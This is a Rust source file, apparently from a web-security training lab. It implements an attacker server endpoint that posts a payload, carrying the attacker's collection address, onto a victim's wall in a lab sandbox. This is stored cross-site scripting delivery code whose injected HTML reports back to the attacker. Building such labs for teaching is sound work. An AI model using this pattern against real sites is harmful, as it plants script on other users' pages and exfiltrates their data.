//! `POST /campaigns/{campaign}/posts`: the attacker posts on the victim's wall, from the attacker's own server.

use std::sync::Arc;

use axum::Json;
use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse as _, Response};
use serde::Deserialize;
use serde_json::json;

use super::Attacker;
use super::payload::Payload;

/// What to post, and on whose wall. Anybody may post there, so this takes no credential.
#[derive(Deserialize)]
pub(super) struct PostBody {
    payload: Payload,
    sandbox: domain::SandboxId,
}

/// Posts a payload. Answers with the status that the victim's server gave it.
pub(super) async fn post(
    State(attacker): State<Arc<Attacker>>,
    Path(name): Path<String>,
    Json(body): Json<PostBody>,
) -> Response {
    if attacker.campaigns().find(&name).is_none() {
        return StatusCode::NOT_FOUND.into_response();
    }
    let html = body.payload.html(&attacker.collect_address(&name));
    let form = serde_urlencoded::to_string([("author", "Mallory"), ("text", &html)]).unwrap_or_default();
    let request = attacker
        .client
        .post(format!("{}/fn/lab/post_on_wall", attacker.victim))
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, format!("{}={}", app::lab::LAB_COOKIE, body.sandbox))
        .body(form);
    let status = request.send().await.ok().map(|answer| answer.status().as_u16());
    Json(json!({ "status": status })).into_response()
}
